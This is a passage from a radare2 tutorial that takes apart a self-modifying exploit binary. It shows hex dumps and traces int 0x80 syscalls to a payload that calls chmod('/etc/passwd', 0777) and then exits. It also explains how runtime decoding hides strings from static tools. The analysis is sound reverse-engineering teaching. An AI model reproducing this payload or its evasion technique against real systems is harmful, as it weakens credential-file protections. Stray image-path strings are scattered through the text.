          0x3c001079   -8 hex length=64 delta=30x3c001079  7061 7373 7764 0055 2720 666f 7220 7265  passwd.U' for re
0x3c001089  646f 0000 0000 0000 0000 0000 0000 0000
0x3c001099  0000 0000 0000 0000 0000 0000 0000 0000
0x3c0010a9  0000 0000 0000 0000 0000 0000 0000 0000

And now we see that the instructions following 0x3c001058 are now valid. The first thing that I notice are these ‘int 0x80’ instructions. On a UNIX like operating system (running on x86/amd64), firing an 0x80 interrupt has a special meaning, it asks the kernel to execute a system call, whose number is held in eax.

By following execution mentally (through a jump and a call), I can tell you that eax takes a value of 15 at 0x3c001065 and 1 at 0x3c00106d. We can identify these Linux system calls by grokking the 32-bit x86 kernel headers, or the easy way, google for them:


NOTE actually, r2 supports three different methods for resolving syscalls on a shellcode, so there’s no need to check the kernel headers anymore.

  • Use your brain
  • Use as command to analyze syscalls
  • Run esil emulation to get reg values
  • Debug de shellcode by injecting it on a real process with r2 -d

So we have a call to chmod(2) at 0x3c001065, followed by a call to exit(2) at 0x3c00106d. We will need to examine the arguments to calls in order to understand what they do. On a Linux system, system call arguments are passed in registers (ebx, ecx, edx, esi, edi, ebp).

Let’s look at the call to chmod(2); This call takes two arguments, so we should look in ebx and ecx for a char pointer indicating the path to a file, and a mode_t (which is just an integer really) specifying the mode (or permissions) to change to.

ebx is popped from the top of the stack at 0x3c00105e and if we follow execution backwards, we see that the last thing on the stack was a “return address” (0x3c001074) of the call at 0x3c00106f. Ofcourse this is not a return address at all, just asneaky way to bundle a string into the payload. Let’s look at the string using ‘ps’:

[0x1c000764]> ps@0x3c001074

The second argument of the chmod call is in the ecx register and takes the value 0x1ff; which in octal, is 0777. So we have a call chmod("/etc/passwd", 0777);. Naughty!

After thisthe program simply calls the exit(2) system call.

Concluding Comments

What we have seen is an exploit which modifies itself at runtime in order to resist static disassembly. The technique is not new and is an easy way of preventing hard coded strings (like “/etc/passwd”) from being detectable with utilities like strings(1) or rabin2 -z.

In fact, this exploit should not work on modern operating systems, as the payload was situated in the ‘.data’ section of the binary, which (on any sane OS) can not be both executable and writable. I tried stepping over the call to the payload on my OpenBSD machine and it refusedto execute, which is a good thing.

We explored some of the basic features of radare2, however, we have only scratched the surface. Go check it out at

If you fancy something slightly harder, try the same analysis on a stripped binary!Please let us know if you spot anyerrors or have any comments. Cheers.